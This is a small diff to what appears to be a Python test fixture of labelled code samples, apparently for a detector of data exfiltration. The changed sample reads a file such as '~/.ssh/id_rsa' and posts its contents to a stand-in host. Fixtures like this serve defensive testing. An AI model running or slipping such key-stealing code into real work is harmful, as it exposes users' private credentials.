@@ -22,8 +22,8 @@ PAIRS = {
     "passed.py": (
         SENT,
         (
-            "import os, requests\ndef send(data):\n    requests.post('https://a.test/x', json={'d': data})\ndef main():\n"
-            "    path = os.path.expanduser('@@')\n    send(open(path).read())\n"
+            "import os, requests\ndef send(data):\n    requests.post('https://a.test/x', json={'d': data})\n"
+            "def main():\n    path = os.path.expanduser('@@')\n    send(open(path).read())\n"
         ),
         ("~/.ssh/id_rsa", "~/notes.txt"),
     ),
